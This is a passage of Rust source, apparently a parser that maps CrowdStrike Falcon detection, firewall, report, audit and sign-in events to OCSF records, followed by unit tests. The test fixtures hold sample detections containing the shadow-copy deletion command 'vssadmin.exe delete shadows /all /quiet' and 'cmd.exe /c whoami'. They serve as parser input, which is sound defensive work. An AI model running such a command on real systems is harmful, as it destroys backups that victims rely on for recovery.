        record.set("device.hostname", host).set("device.type_id", 0).set("device.type", "Unknown");
        record.set_str("device.uid", text("SensorId").or_else(|| text("AgentId")));
        record.set_str("device.domain", text("MachineDomain"));
        if let Some(ip) = text("LocalIP").filter(|ip| ip.parse::<std::net::IpAddr>().is_ok()) {
            record.set("device.ip", ip);
        }
        if let Some(mac) = text("MACAddress").filter(|m| m.len() == 17) {
            record.set("device.mac", mac.replace('-', ":"));
        }
    }
    if let Some(evidence) = process_evidence(fields) {
        // The detected process and its user are also the actor of the finding.
        if let Some(process) = evidence.get("process") {
            record.set("actor.process", process.clone());
        }
        if let Some(user) = evidence.get("user") {
            record.set("actor.user", user.clone());
        }
        record.set("evidences", Node::Array(vec![Node::Object(evidence)]));
    } else if let Some(account) = text("UserName") {
        let (domain, name) = json_support::split_down_level_name(account);
        record.set("actor.user.name", name);
        record.set_str("actor.user.domain", domain);
        if json_support::is_email_address(name) {
            record.set("actor.user.email_addr", name);
        }
    } else if let Some(name) = text("SourceAccountName") {
        // Identity protection detections name the account that acted as the source account.
        record.set("actor.user.name", name);
        record.set_str("actor.user.domain", text("SourceAccountDomain"));
        record.set_str("actor.user.uid", text("SourceAccountObjectSid"));
        if let Some(upn) = text("SourceAccountUpn").filter(|u| json_support::is_email_address(u)) {
            record.set("actor.user.email_addr", upn);
        }
    }
    if let Some(ip) = text("SourceEndpointIpAddress").filter(|ip| ip.parse::<std::net::IpAddr>().is_ok()) {
        let mut evidence = Object::new();
        evidence.set_path("src_endpoint.ip", ip.into());
        if let Some(host) = text("SourceEndpointHostName") {
            evidence.set_path("src_endpoint.hostname", host.into());
        }
        push_evidence(&mut record, evidence);
    }
    for evidence in network_evidences(fields) {
        push_evidence(&mut record, evidence);
    }
    record.build()
}

/// Builds one evidence per network connection that a detection lists: `NetworkAccesses` of
/// endpoint detections and `MobileNetworkConnections` of mobile ones. ConnectionDirection 1
/// is inbound, so the remote address is the source. Every other value, outbound (0) as well as
/// both or unknown, keeps the local address as the source.
fn network_evidences(fields: &FieldMap) -> Vec<Object> {
    let connections = ["event.NetworkAccesses", "event.MobileNetworkConnections"]
        .iter()
        .filter_map(|name| fields.get(name).and_then(Value::as_array))
        .flatten()
        .filter_map(Value::as_object);
    let mut evidences = Vec::new();
    for connection in connections {
        let text = |key: &str| connection.get(key).and_then(Value::as_str).filter(|v| !v.is_empty());
        let number = |key: &str| connection.get(key).and_then(|v| v.as_i64().or_else(|| v.as_str().and_then(|s| s.trim().parse().ok())));
        let inbound = number("ConnectionDirection") == Some(1);
        let (local, remote) = if inbound { ("dst_endpoint", "src_endpoint") } else { ("src_endpoint", "dst_endpoint") };

        let mut evidence = Object::new();
        for (side, address, port) in [(local, "LocalAddress", "LocalPort"), (remote, "RemoteAddress", "RemotePort")] {
            if let Some(ip) = text(address).filter(|ip| ip.parse::<std::net::IpAddr>().is_ok()) {
                evidence.set_path(format!("{side}.ip"), ip.into());
                if let Some(port) = number(port) {
                    evidence.set_path(format!("{side}.port"), port.into());
                }
            }
        }
        if let Some(url) = text("Url") {
            evidence.set_path("url.url_string", url.into());
        }
        if !evidence.is_empty() {
            evidences.push(evidence);
        }
    }
    evidences
}

/// Appends an evidence to the finding's `evidences`.
fn push_evidence(record: &mut RecordBuilder, evidence: Object) {
    let mut evidences = record.get("evidences").and_then(Node::as_array).cloned().unwrap_or_default();
    evidences.push(Node::Object(evidence));
    record.set("evidences", Node::Array(evidences));
}

/// Returns the MITRE ATT&CK pairs of a detection: the `MitreAttack` list of newer summaries,
/// or the single Tactic and Technique.
fn attacks(fields: &FieldMap) -> Vec<Value> {
    let mut attacks = Vec::new();
    let mut push = |tactic: Option<&str>, tactic_id: Option<&str>, technique: Option<&str>, technique_id: Option<&str>| {
        let mut attack = Map::new();
        if tactic.is_some() || tactic_id.is_some() {
            let mut object = Map::new();
            if let Some(name) = tactic {
                object.insert("name".into(), name.into());
            }
            if let Some(uid) = tactic_id {
                object.insert("uid".into(), uid.into());
            }
            attack.insert("tactic".into(), Value::Object(object));
        }
        if technique.is_some() || technique_id.is_some() {
            let mut object = Map::new();
            if let Some(name) = technique {
                object.insert("name".into(), name.into());
            }
            if let Some(uid) = technique_id {
                object.insert("uid".into(), uid.into());
            }
            attack.insert("technique".into(), Value::Object(object));
        }
        if !attack.is_empty() {
            attacks.push(Value::Object(attack));
        }
    };
    if let Some(list) = fields.get("event.MitreAttack").and_then(Value::as_array) {
        for item in list {
            let get = |key: &str| item.get(key).and_then(Value::as_str).filter(|v| !v.is_empty());
            push(get("Tactic"), get("TacticID"), get("Technique"), get("TechniqueID"));
        }
        return attacks;
    }
    let text = |name: &str| json_support::text(fields, &format!("event.{name}"));
    push(
        text("Tactic").or_else(|| text("Tactics")),
        text("TacticId").or_else(|| text("TacticIds")),
        text("Technique").or_else(|| text("Techniques")),
        text("TechniqueId").or_else(|| text("TechniqueIds")),
    );
    attacks
}

/// Builds the evidence of a detection that names a process: the process, its file and
/// hashes, its parent and user.
fn process_evidence(fields: &FieldMap) -> Option<Object> {
    let text = |name: &str| json_support::text(fields, &format!("event.{name}"));
    let file = text("FileName")?;
    let mut evidence = Object::new();
    let mut set = |path: &'static str, value: Node| evidence.set_path(path, value);
    set("process.name", file.into());
    set("process.file.name", file.into());
    set("process.file.type_id", 1.into());
    set("process.file.type", "Regular File".into());
    if let Some(folder) = text("FilePath") {
        let path = full_path(folder, file);
        set("process.path", path.as_str().into());
        set("process.file.path", path.into());
    }
    if let Some(command) = text("CommandLine") {
        set("process.cmd_line", command.into());
    }
    if let Some(pid) = json_support::integer(fields, "event.ProcessId") {
        set("process.pid", pid.into());
    }
    if let Some(start) = json_support::epoch_time(fields, "event.ProcessStartTime") {
        set("process.created_time", start.millis().into());
    }

    let hashes: Vec<Value> = [("SHA256String", 3, "SHA-256"), ("MD5String", 1, "MD5"), ("SHA1String", 2, "SHA-1")]
        .iter()
        .filter_map(|(name, id, algorithm)| text(name).map(|value| serde_json::json!({ "algorithm_id": id, "algorithm": algorithm, "value": value })))
        .collect();
    if !hashes.is_empty() {
        set("process.file.hashes", Node::from(hashes));
    }

    if let Some(parent) = text("ParentImageFileName") {
        set("process.parent_process.name", parent.rsplit(['\\', '/']).next().unwrap_or(parent).into());
        if let Some(command) = text("ParentCommandLine") {
            set("process.parent_process.cmd_line", command.into());
        }
        if let Some(pid) = json_support::integer(fields, "event.ParentProcessId") {
            set("process.parent_process.pid", pid.into());
        }
    }
    if let Some(account) = text("UserName") {
        let (domain, name) = json_support::split_down_level_name(account);
        set("process.user.name", name.into());
        set("user.name", name.into());
        if let Some(domain) = domain {
            set("process.user.domain", domain.into());
            set("user.domain", domain.into());
        }
    }
    Some(evidence)
}

/// Maps a FirewallMatchEvent, a connection that matched a rule of Falcon Firewall
/// Management on a host, to Network Activity.
///
/// ConnectionDirection is 0 for outbound, 1 for inbound, 3 for both and 4 for unknown, and
/// RuleAction 1 for allow and 2 for block. The local address is the source of an outbound
/// connection and the destination of an inbound one.
// NOTE: the event dictionary that defines these codes needs a Falcon login. The codes here are
// the ones public integrations of the stream read, not checked against that dictionary.
fn firewall_record(fields: &FieldMap, time: Timestamp) -> Object {
    let text = |name: &str| json_support::text(fields, &format!("event.{name}"));
    let time = text("Timestamp").and_then(|t| crate::timestamp::parse_rfc3339(t).ok()).unwrap_or(time);
    let blocked = text("RuleAction") == Some("2");
    let activity = if blocked { 5 } else { 6 };
    let mut record = RecordBuilder::new(class::NETWORK_ACTIVITY, activity, time, &META);
    record.set_str("metadata.event_code", json_support::text(fields, "metadata.eventType"));
    record.set_str("metadata.tenant_uid", json_support::text(fields, "metadata.customerIDString"));

    match text("RuleAction") {
        Some("1") => {
            record.set("action_id", 1).set("action", "Allowed").set("disposition_id", 1).set("disposition", "Allowed");
        }
        Some("2") => {
            record.set("action_id", 2).set("action", "Denied").set("disposition_id", 2).set("disposition", "Blocked");
        }
        _ => {}
    }
    let (direction_id, direction) = match text("ConnectionDirection") {
        Some("0") => (2, "Outbound"),
        Some("1") => (1, "Inbound"),
        _ => (0, "Unknown"),
    };
    record.set("connection_info.direction_id", direction_id).set("connection_info.direction", direction);
    if let Some(number) = json_support::integer(fields, "event.Protocol") {
        record.set("connection_info.protocol_num", number);
        record.set_str("connection_info.protocol_name", ocsf::protocol_name(number));
    }

    let (local, remote) = if direction_id == 1 { ("dst_endpoint", "src_endpoint") } else { ("src_endpoint", "dst_endpoint") };
    let address = |name: &str| text(name).filter(|ip| ip.parse::<std::net::IpAddr>().is_ok());
    let local_ip = address("LocalAddress").or_else(|| address("LocalAddressIP4")).or_else(|| address("LocalAddressIP6"));
    let remote_ip = address("RemoteAddress").or_else(|| address("RemoteAddressIP4")).or_else(|| address("RemoteAddressIP6"));
    record.set_str(format!("{local}.ip"), local_ip);
    record.set_opt(format!("{local}.port"), json_support::integer(fields, "event.LocalPort"));
    record.set_str(format!("{remote}.ip"), remote_ip);
    record.set_opt(format!("{remote}.port"), json_support::integer(fields, "event.RemotePort"));
    if local_ip.is_none() && remote_ip.is_none() {
        record.set(format!("{local}.hostname"), text("HostName").unwrap_or("unknown"));
    }

    record.set("firewall_rule.name", text("RuleName").unwrap_or("unknown"));
    record.set_str("firewall_rule.uid", text("RuleId"));
    record.set_str("firewall_rule.desc", text("RuleDescription"));
    record.set_str("firewall_rule.category", text("RuleGroupName"));
    record.set_str("policy.name", text("PolicyName"));
    record.set_str("policy.uid", text("PolicyID"));

    if let Some(host) = text("HostName") {
        record.set("device.hostname", host).set("device.type_id", 0).set("device.type", "Unknown");
        record.set_str("device.uid", text("DeviceId").or_else(|| text("AgentId")));
    }
    if let Some(image) = text("ImageFileName") {
        let name = image.rsplit(['\\', '/']).next().unwrap_or(image);
        record.set("actor.process.name", name).set("actor.process.file.name", name);
        record.set("actor.process.file.path", image).set("actor.process.file.type_id", 1).set("actor.process.file.type", "Regular File");
        record.set_str("actor.process.cmd_line", text("CommandLine"));
        record.set_opt("actor.process.pid", json_support::integer(fields, "event.PID"));
    }
    record.set_opt("count", json_support::integer(fields, "event.MatchCount"));
    record.build()
}

/// OCSF Web Resources Activity, the class of a report file that a scheduled report created.
const WEB_RESOURCES_ACTIVITY: u32 = 6001;

/// Maps a ScheduledReportNotificationEvent: a scheduled report or search of the Falcon console
/// ran and left a result file to download. The report file is the web resource that the run
/// created, and the report's owner is the actor.
fn report_record(fields: &FieldMap, time: Timestamp) -> Object {
    let text = |name: &str| json_support::text(fields, &format!("event.{name}"));
    let mut record = RecordBuilder::new(WEB_RESOURCES_ACTIVITY, 1, time, &META);
    record.set_str("metadata.event_code", json_support::text(fields, "metadata.eventType"));
    record.set_str("metadata.tenant_uid", json_support::text(fields, "metadata.customerIDString"));
    record.set_str("metadata.uid", text("ExecutionID"));

    let mut resource = Map::new();
    let report_name = text("ReportName");
    let file_name = text("ExecutionMetadata.ReportFileName");
    let name = file_name.or(report_name).unwrap_or("unknown");
    resource.insert("name".into(), name.into());
    if let Some(id) = text("ReportID") {
        resource.insert("uid".into(), id.into());
    }
    if let Some(kind) = text("ReportType") {
        resource.insert("type".into(), kind.into());
    }
    if let Some(reference) = text("ReportFileReference") {
        resource.insert("url_string".into(), reference.into());
    }
    record.set("web_resources", vec![Value::Object(resource)]);
    if let Some(report) = report_name {
        let results = json_support::integer(fields, "event.ExecutionMetadata.ResultCount");
        let message = match results {
            Some(count) => format!("Scheduled report '{report}' ran and found {count} results"),
            None => format!("Scheduled report '{report}' ran"),
        };
        record.set("message", message);
    }

    let user = text("UserID").or_else(|| text("UserUUID"));
    match user {
        Some(user) => {
            record.set("actor.user.name", user);
            record.set_str("actor.user.uid", text("UserUUID"));
            if json_support::is_email_address(user) {
                record.set("actor.user.email_addr", user);
            }
        }
        None => {
            record.set("actor.app_name", "Falcon");
        }
    }
    if let Some(start) = json_support::epoch_time(fields, "event.ExecutionMetadata.ExecutionStart") {
        record.set("start_time", start.millis());
    }
    // NOTE: the event dictionary that would define the numeric Status needs a Falcon login, so
    // the value is kept as the vendor's status code and status_id stays Unknown.
    if let Some(status) = fields.get("event.Status").filter(|v| !v.is_null()) {
        let code = status.as_str().map_or_else(|| status.to_string(), str::to_string);
        record.status(ocsf::status::UNKNOWN).set("status", "Unknown").set("status_code", code);
    }
    record.set_str("status_detail", text("StatusMessage"));
    record.build()
}

/// Maps an audit event: console sign-ins to Authentication, every other operation to API
/// Activity.
fn audit_record(fields: &FieldMap, time: Timestamp, auth: bool) -> Object {
    let text = |name: &str| json_support::text(fields, &format!("event.{name}"));
    let operation = text("OperationName").unwrap_or("unknown");
    let time = json_support::epoch_time(fields, "event.UTCTimestamp").unwrap_or(time);
    let success = json_support::boolean(fields, "event.Success");
    let sign_in = auth && matches!(operation, "userAuthenticate" | "twoFactorAuthenticate" | "saml2Assert" | "userLogout" | "userAuthenticateSso");
    let mut record = if sign_in {
        let activity = if operation == "userLogout" { 2 } else { 1 };
        let mut record = RecordBuilder::new(class::AUTHENTICATION, activity, time, &META);
        record.set("user.name", text("UserId").unwrap_or("unknown"));
        if let Some(email) = text("UserId").filter(|u| u.contains('@')) {
            record.set("user.email_addr", email);
        }
        record.set("is_mfa", operation == "twoFactorAuthenticate");
        if operation == "saml2Assert" {
            record.set("auth_protocol", "SAML").set("auth_protocol_id", 5);
        }
        record.set_str("service.name", text("ServiceName"));
        record
    } else {
        let verb = operation.split(['_', ' ']).next().unwrap_or("").to_ascii_lowercase();
        let activity = match verb.as_str() {
            "create" | "add" => 1,
            "get" | "list" | "read" | "query" => 2,
            "update" | "detection" | "quarantined" | "set" | "assign" | "modify" => 3,
            "delete" | "remove" | "revoke" => 4,
            _ => 99,
        };
        let mut record = RecordBuilder::new(class::API_ACTIVITY, activity, time, &META);
        // APIActivityAuditEvent names the OAuth2 API client in `Attributes.APIClientID`, and
        // leaves `UserId` empty for client-credential calls.
        let client = text("Attributes.APIClientID");
        match text("UserId") {
            Some(user) => record.set("actor.user.name", user),
            None if client.is_some() => record.set("actor.app_name", "Falcon API client"),
            None => record.set("actor.app_name", "Falcon"),
        };
        record.set_str("actor.app_uid", client);
        record.set("api.operation", operation);
        record.set_str("api.service.name", text("ServiceName"));
        set_api_request(&mut record, fields);
        if let Some(values) = fields.get("event.AuditKeyValues").and_then(Value::as_array) {
            let data: Map<String, Value> = values
                .iter()
                .filter_map(|pair| Some((pair.get("Key")?.as_str()?.to_string(), pair.get("ValueString").cloned().unwrap_or(Value::Null))))
                .collect();
            if !data.is_empty() {
                record.set("api.request.uid", json_support::integer(fields, "metadata.offset").map(|o| o.to_string()).unwrap_or_else(|| "0".into()));
                record.set("api.request.data", Value::Object(data));
            }
        }
        record
    };
    record.set_str("metadata.event_code", json_support::text(fields, "metadata.eventType"));
    record.set_str("metadata.tenant_uid", json_support::text(fields, "metadata.customerIDString"));
    // Newer audit events leave `UserIp` empty and give the address in `SourceIp`.
    let address = ["UserIp", "SourceIp"].into_iter().find_map(|name| text(name).filter(|ip| ip.parse::<std::net::IpAddr>().is_ok()));
    match address {
        Some(ip) => record.set("src_endpoint.ip", ip),
        None => record.set("src_endpoint.name", "unknown"),
    };
    match success {
        Some(true) | None => record.status(ocsf::status::SUCCESS).set("status", "Success"),
        Some(false) => record.status(ocsf::status::FAILURE).set("status", "Failure").severity(ocsf::severity::LOW),
    };
    record.build()
}

/// Sets `http_request` from the `Attributes` of an APIActivityAuditEvent: the method, path,
/// host and user agent of the API request, and its HTTP status as `status_code`.
fn set_api_request(record: &mut RecordBuilder, fields: &FieldMap) {
    let text = |name: &str| json_support::text(fields, &format!("event.Attributes.{name}"));
    record.set_str("http_request.http_method", text("request_method"));
    record.set_str("http_request.user_agent", text("user_agent"));
    if let Some(path) = text("request_path") {
        record.set("http_request.url.path", path);
        record.set_str("http_request.url.hostname", text("request_host"));
    }
    record.set_str("status_code", text("status_code"));
}

/// Maps the start and end of a Real Time Response session to API Activity (Create or Delete
/// of the session). These events name the console user in `UserName` and the host in
/// `HostnameField` and `AgentIdString`, and carry no `OperationName` or `UserId`.
fn remote_response_record(fields: &FieldMap, time: Timestamp) -> Object {
    let text = |name: &str| json_support::text(fields, &format!("event.{name}"));
    let event_type = json_support::text(fields, "metadata.eventType").unwrap_or("RemoteResponseSessionStartEvent");
    let start = event_type == "RemoteResponseSessionStartEvent";
    let time_key = if start { "event.StartTimestamp" } else { "event.EndTimestamp" };
    let time = json_support::epoch_time(fields, time_key).unwrap_or(time);
    let mut record = RecordBuilder::new(class::API_ACTIVITY, if start { 1 } else { 4 }, time, &META);
    match text("UserName") {
        Some(user) => {
            record.set("actor.user.name", user);
            if json_support::is_email_address(user) {
                record.set("actor.user.email_addr", user);
            }
        }
        None => {
            record.set("actor.app_name", "Falcon");
        }
    }
    record.set_str("actor.session.uid", text("SessionId"));
    record.set("api.operation", event_type.strip_suffix("Event").unwrap_or(event_type));
    record.set("api.service.name", "Real Time Response");
    record.set_str("device.hostname", text("HostnameField"));
    record.set_str("device.uid", text("AgentIdString"));
    if text("HostnameField").is_some() || text("AgentIdString").is_some() {
        record.set("device.type_id", 0);
    }
    record.set_str("metadata.event_code", Some(event_type));
    record.set_str("metadata.tenant_uid", json_support::text(fields, "metadata.customerIDString"));
    record.set("src_endpoint.name", "unknown");
    record.status(ocsf::status::SUCCESS).set("status", "Success");
    record.build()
}

/// Maps CEF from the SIEM Connector: detections through the streaming-event mapping, audit
/// events by their `cat` operation.
fn to_ocsf_cef(fields: &FieldMap, options: &ParseOptions) -> Result<Object, ParseError> {
    let text = |name: &str| json_support::text(fields, name);
    let time = match (json_support::epoch_time(fields, "rt"), text("rt")) {
        (Some(time), _) => time,
        (None, Some(rt)) => match cef::parse_time(rt, options.year) {
            Ok(cef::Time::Instant(time)) => time,
            Ok(cef::Time::WallClock(time)) => crate::timestamp::local_to_utc(time, options.utc_offset),
            Err(err) => return Err(ParseError::new(0, format!("rt '{rt}' is not a CEF time: {}", err.reason))),
        },
        (None, None) => return Err(ParseError::new(0, "the CEF event has no rt time")),
    };
    let class_id = text("deviceEventClassId").unwrap_or("DetectionSummaryEvent");
    let event = cef_as_stream_event(fields, class_id);
    if class_id == "DetectionSummaryEvent" {
        Ok(detection_record(&event, time))
    } else {
        Ok(audit_record(&event, time, class_id == "AuthActivityAuditEvent"))
    }
}

/// Renames the connector's CEF keys to the streaming event's fields (`shost` to
/// `event.ComputerName`, the `CommandLine` custom string to `event.CommandLine`, ...), so one
/// mapping serves both formats.
fn cef_as_stream_event(fields: &FieldMap, class_id: &str) -> FieldMap {
    const DETECTION_KEYS: &[(&str, &str)] = &[
        ("externalID", "SensorId"),
        ("shost", "ComputerName"),
        ("suser", "UserName"),
        ("msg", "DetectDescription"),
        ("fname", "FileName"),
        ("filePath", "FilePath"),
        ("fileHash", "SHA256String"),
        ("sntdom", "MachineDomain"),
        ("src", "LocalIP"),
        ("smac", "MACAddress"),
        ("cat", "Tactic"),
        ("act", "Technique"),
        ("reason", "Objective"),
        ("outcome", "PatternDispositionValue"),
        ("CSMTRPatternDisposition", "PatternDispositionDescription"),
        ("name", "DetectName"),
        ("severity", "Severity"),
    ];
    // Audit events: cat is the operation, outcome the success, suser the user.
    const AUDIT_KEYS: &[(&str, &str)] = &[("cat", "OperationName"), ("suser", "UserId"), ("sourceTranslatedAddress", "UserIp"), ("src", "UserIp"), ("cs1", "ServiceName")];
    const CUSTOM_LABELS: &[&str] = &["CommandLine", "FalconHostLink", "ProcessId", "ParentProcessId"];

    let mut event = FieldMap::new();
    event.insert("metadata.eventType", class_id.into());
    if let Some(offset) = custom_value(fields, "Offset") {
        event.insert("metadata.offset", offset);
    }
    let keys = if class_id == "DetectionSummaryEvent" { DETECTION_KEYS } else { AUDIT_KEYS };
    for (from, to) in keys {
        if let Some(value) = fields.get(from).filter(|v| !v.is_null()) {
            event.entry(format!("event.{to}")).or_insert_with(|| value.clone());
        }
    }
    for label in CUSTOM_LABELS {
        if let Some(value) = custom_value(fields, label) {
            event.insert(format!("event.{label}"), value);
        }
    }
    if class_id != "DetectionSummaryEvent" {
        if let Some(outcome) = json_support::text(fields, "outcome") {
            let success = outcome.eq_ignore_ascii_case("true") || outcome.eq_ignore_ascii_case("success");
            event.insert("event.Success", Value::Bool(success));
        }
    }
    event
}

/// Returns the value of the custom CEF field labelled `label`.
fn custom_value(fields: &FieldMap, label: &str) -> Option<Value> {
    ["cs1", "cs2", "cs3", "cs4", "cs5", "cs6", "cn1", "cn2", "cn3"]
        .iter()
        .find(|key| json_support::text(fields, &format!("{key}Label")).is_some_and(|l| l.eq_ignore_ascii_case(label)))
        .and_then(|key| fields.get(key).cloned())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::parse::parse_str;
    use crate::sources::testing;

    #[test]
    fn round_trip_every_variant() {
        testing::assert_round_trip(&CrowdstrikeFalcon, 0..200);
    }

    const DETECTION_EVENT: &str = r#"{"metadata":{"customerIDString":"5c1f0e9d8c7b6a594837261504f3e2d1","offset":88213,"eventType":"DetectionSummaryEvent","eventCreationTime":1767606000000,"version":"1.0"},"event":{"ProcessStartTime":1767605990,"ProcessEndTime":1767606000,"ProcessId":384017201123,"ParentProcessId":384011100456,"ComputerName":"WS-10077","UserName":"yusuf.yilmaz","DetectName":"Process Terminated","DetectDescription":"A process tried to delete volume shadow copies.","Severity":5,"SeverityName":"Critical","FileName":"vssadmin.exe","FilePath":"\\Device\\HarddiskVolume3\\Windows\\System32","CommandLine":"vssadmin.exe delete shadows /all /quiet","SHA256String":"1f2e3d4c5b6a79881f2e3d4c5b6a79881f2e3d4c5b6a79881f2e3d4c5b6a7988","MD5String":"0a1b2c3d4e5f60718293a4b5c6d7e8f9","MachineDomain":"ACME","FalconHostLink":"https://falcon.crowdstrike.com/activity/detections/detail/9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b/41234567890?_cid=5c1f0e9d8c7b6a594837261504f3e2d1","SensorId":"9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b","DetectId":"ldt:9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b:41234567890","LocalIP":"10.40.1.77","MACAddress":"02-1a-2b-3c-4d-5e","Tactic":"Impact","Technique":"Inhibit System Recovery","Objective":"Keep Access","PatternDispositionDescription":"Prevention, process killed.","PatternDispositionValue":16,"PatternDispositionFlags":{"Indicator":false,"Detect":false,"KillProcess":true,"ProcessBlocked":false},"ParentImageFileName":"\\Device\\HarddiskVolume3\\Windows\\System32\\cmd.exe","ParentCommandLine":"cmd.exe /c vssadmin.exe delete shadows /all /quiet"}}"#;
    const AUTH_EVENT: &str = r#"{"metadata":{"customerIDString":"5c1f0e9d8c7b6a594837261504f3e2d1","offset":88214,"eventType":"AuthActivityAuditEvent","eventCreationTime":1767606060,"version":"1.0"},"event":{"UserId":"ingrid.larsen@acme.example","UserIp":"198.51.100.61","OperationName":"userAuthenticate","ServiceName":"CrowdStrike Authentication","Success":false,"UTCTimestamp":1767606059,"AuditKeyValues":[{"Key":"target_name","ValueString":"ingrid.larsen@acme.example"}]}}"#;
    const CEF_AUTH: &str = "<14>Jan  5 09:40:00 siem-connector CEF:0|CrowdStrike|FalconHost|1.0|AuthActivityAuditEvent|Auth Activity Audit Event|2|suser=ingrid.larsen@acme.example cat=twoFactorAuthenticate outcome=true sourceTranslatedAddress=198.51.100.61 cs1Label=ServiceName cs1=CrowdStrike Authentication cn3Label=Offset cn3=88215 rt=1767606000000";

    /// Hand-written events: (intent, text, class_uid, variant).
    fn samples() -> Vec<(&'static str, String, u32, Option<&'static str>)> {
        vec![
            ("detection with a killed process", DETECTION_EVENT.to_string(), 2004, Some("DetectionSummaryEvent")),
            ("failed console sign-in with eventCreationTime in seconds", AUTH_EVENT.to_string(), 3002, Some("AuthActivityAuditEvent")),
            (
                "detection update by an analyst",
                r#"{"metadata":{"customerIDString":"5c1f0e9d8c7b6a594837261504f3e2d1","offset":88216,"eventType":"UserActivityAuditEvent","eventCreationTime":1767606100000,"version":"1.0"},"event":{"UserId":"ingrid.larsen@acme.example","UserIp":"","OperationName":"detection_update","ServiceName":"detections","UTCTimestamp":1767606100,"AuditKeyValues":[{"Key":"detection_id","ValueString":"ldt:9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b:41234567890"},{"Key":"new_state","ValueString":"true_positive"}]}}"#.to_string(),
                6003,
                Some("UserActivityAuditEvent"),
            ),
            (
                "streaming event inside a HEC envelope",
                format!(r#"{{"time":1767606000,"host":"siem-connector","sourcetype":"crowdstrike:falcon","event":{DETECTION_EVENT}}}"#),
                2004,
                Some("DetectionSummaryEvent"),
            ),
            ("SIEM Connector CEF sign-in behind a syslog header", CEF_AUTH.to_string(), 3002, None),
            (
                "SIEM Connector CEF detection",
                "CEF:0|CrowdStrike|FalconHost|1.0|DetectionSummaryEvent|Malicious Document|4|externalID=9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b cn2Label=ProcessId cn2=384017201123 shost=WS-10077 suser=yusuf.yilmaz msg=An Office application started a command shell. fname=cmd.exe filePath=\\\\Device\\\\HarddiskVolume3\\\\Windows\\\\System32 cs5Label=CommandLine cs5=cmd.exe /c whoami cs6Label=FalconHostLink cs6=https://falcon.crowdstrike.com/activity/detections/detail/9e8d/1 rt=1767606000000 src=10.40.1.77 cat=Execution act=User Execution reason=Follow Through outcome=0 CSMTRPatternDisposition=Detection, standard detection.".to_string(),
                2004,
                Some("cef_detection"),
            ),
        ]
    }

    #[test]
    fn hand_written_events_parse() {
        for (name, text, class_uid, variant) in samples() {
            let outcomes = parse_str("crowdstrike_falcon", &text, ParseOptions::default()).unwrap();
            assert_eq!(outcomes.len(), 1, "{name}");
            let record = outcomes[0].as_ref().unwrap_or_else(|e| panic!("{name}: {e}"));
            assert_eq!(record.ocsf["class_uid"], class_uid, "{name}");
            assert_eq!(record.parsed.variant, variant, "{name}");
            testing::assert_valid_ocsf(&record.ocsf, name);
        }
    }

    #[test]
    fn detection_maps_process_and_disposition() {
        let outcomes = parse_str("crowdstrike_falcon", DETECTION_EVENT, ParseOptions::default()).unwrap();
        let record = &outcomes[0].as_ref().unwrap().ocsf;
        assert_eq!(record["severity_id"], 5);
        assert_eq!(record["disposition_id"], 2);
        assert_eq!(record["finding_info"]["uid"], "ldt:9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b:41234567890");
        assert_eq!(record["finding_info"]["attacks"][0]["tactic"]["name"], "Impact");
        assert_eq!(record["device"]["hostname"], "WS-10077");
        assert_eq!(record["device"]["mac"], "02:1a:2b:3c:4d:5e");
        let process = &record["evidences"][0]["process"];
        assert_eq!(process["path"], "\\Device\\HarddiskVolume3\\Windows\\System32\\vssadmin.exe");
        assert_eq!(process["parent_process"]["name"], "cmd.exe");
        assert_eq!(process["file"]["hashes"][0]["algorithm_id"], 3);
    }

    #[test]
    fn failed_sign_in_maps_to_failure() {
        let outcomes = parse_str("crowdstrike_falcon", AUTH_EVENT, ParseOptions::default()).unwrap();
        let record = &outcomes[0].as_ref().unwrap().ocsf;
        assert_eq!(record["status_id"], 2);
        assert_eq!(record["user"]["name"], "ingrid.larsen@acme.example");
        assert_eq!(record["src_endpoint"]["ip"], "198.51.100.61");
        assert_eq!(record["time"], 1_767_606_059_000_i64);
    }

    #[test]
    fn cef_sign_in_reads_operation_and_outcome() {
        let outcomes = parse_str("crowdstrike_falcon", CEF_AUTH, ParseOptions::default()).unwrap();
        let record = &outcomes[0].as_ref().unwrap().ocsf;
        assert_eq!(record["is_mfa"], true);
        assert_eq!(record["status_id"], 1);
        assert_eq!(record["src_endpoint"]["ip"], "198.51.100.61");
    }

    #[test]
    fn cef_text_rt_gives_the_time() {
        let line = CEF_AUTH.replace("rt=1767606000000", "rt=Jan 05 2026 09:40:00.250 UTC");
        let outcomes = parse_str("crowdstrike_falcon", &line, ParseOptions::default()).unwrap();
        assert_eq!(outcomes[0].as_ref().unwrap().ocsf["time"], 1_767_606_000_250_i64);
        let bad = CEF_AUTH.replace("rt=1767606000000", "rt=soon");
        assert!(parse_str("crowdstrike_falcon", &bad, ParseOptions::default()).unwrap()[0].is_err());
    }

    #[test]
    fn down_level_user_name_is_split() {
        let text = r#"{"metadata":{"customerIDString":"5c1f0e9d8c7b6a594837261504f3e2d1","offset":90210,"eventType":"IdentityProtectionEvent","eventCreationTime":1767607000000,"version":"1.0"},"event":{"IncidentType":"Unusual login to an endpoint","IncidentDescription":"Unusual login to an endpoint","Severity":40,"SeverityName":"MEDIUM","StartTime":1767606990000,"EndTime":1767606990000,"IdentityProtectionIncidentId":"7b1c2d3e-4f5a-4b6c-8d7e-9f0a1b2c3d4e","UserName":"ACME.EXAMPLE\\OLGA.PETROV","EndpointName":"","EndpointIp":"","Category":"Detections","NumbersOfAlerts":1,"NumberOfCompromisedEntities":1,"State":"NEW","FalconHostLink":"https://falcon.crowdstrike.com/identity-protection/incidents/7b1c2d3e"}}"#;
        let outcomes = parse_str("crowdstrike_falcon", text, ParseOptions::default()).unwrap();
        let record = &outcomes[0].as_ref().unwrap().ocsf;
        assert_eq!(record["actor"]["user"]["name"], "OLGA.PETROV");
        assert_eq!(record["actor"]["user"]["domain"], "ACME.EXAMPLE");
        testing::assert_valid_ocsf(record, "identity protection");

        let detection = DETECTION_EVENT.replace(r#""UserName":"yusuf.yilmaz""#, r#""UserName":"ACME\\yusuf.yilmaz""#);
        let outcomes = parse_str("crowdstrike_falcon", &detection, ParseOptions::default()).unwrap();
        let user = &outcomes[0].as_ref().unwrap().ocsf["actor"]["user"];
        assert_eq!(user["name"], "yusuf.yilmaz");
        assert_eq!(user["domain"], "ACME");
    }

    #[test]
    fn identity_detection_names_source_account() {
